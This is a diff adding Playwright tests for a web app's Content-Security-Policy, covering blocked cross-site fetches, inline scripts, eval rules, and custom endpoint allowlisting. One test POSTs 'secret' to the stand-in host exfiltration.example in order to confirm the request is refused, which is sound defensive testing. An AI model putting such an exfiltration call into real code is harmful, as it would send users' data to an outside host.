@@ -1,0 +1,45 @@
+// The built page runs under a Content-Security-Policy: connections only to itself and the configured endpoints,
+// no inline script, no eval. (Every other spec also runs under it, which shows the page works.)
+import { expect, test } from "@playwright/test";
+import { openApp } from "./helpers";
+
+test("requests to other sites and inline scripts are refused, and eval is not allowed by the policy", async ({ page }) => {
+  await openApp(page);
+  const outcome = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
+    let fetched = "allowed";
+    try {
+      await fetch("https://exfiltration.example/collect", { method: "POST", body: "secret" });
+    } catch {
+      fetched = "refused";
+    }
+    const script = document.createElement("script");
+    script.textContent = "window.__inline = true";
+    document.body.append(script);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    const policy = document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content ?? "";
+    return { fetched, policy, inline: (window as unknown as { __inline?: boolean }).__inline ?? false, violations };
+  });
+  expect(outcome.fetched).toBe("refused");
+  // eval cannot be exercised from here (DevTools evaluation is exempt), so read the policy: WASM compilation only.
+  const scriptSources = /script-src ([^;]*)/.exec(outcome.policy)?.[1] ?? "";
+  expect(scriptSources).toBe("'self' 'wasm-unsafe-eval'");
+  expect(outcome.inline).toBe(false);
+  expect(outcome.violations).toEqual(expect.arrayContaining(["connect-src", "script-src-elem"]));
+});
+
+test("an endpoint outside the policy asks for a reload, which then allows it", async ({ page }) => {
+  await openApp(page);
+  await page.getByRole("button", { name: "Settings" }).click();
+  const dialog = page.getByRole("dialog", { name: "Settings" });
+  await dialog.getByLabel("Provider").selectOption("custom");
+  await dialog.getByLabel("Base URL").fill("https://llm.internal.example/v1");
+  await expect(dialog.getByRole("status")).toContainText("Reload to allow https://llm.internal.example");
+  await dialog.getByRole("button", { name: "Reload" }).click();
+  await openApp(page);
+  const allowed = await page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]:last-of-type')?.content ?? "");
+  expect(allowed).toContain("https://llm.internal.example");
+  await page.getByRole("button", { name: "Settings" }).click();
+  await expect(page.getByRole("dialog", { name: "Settings" }).getByText("Reload to allow")).toHaveCount(0);
+});
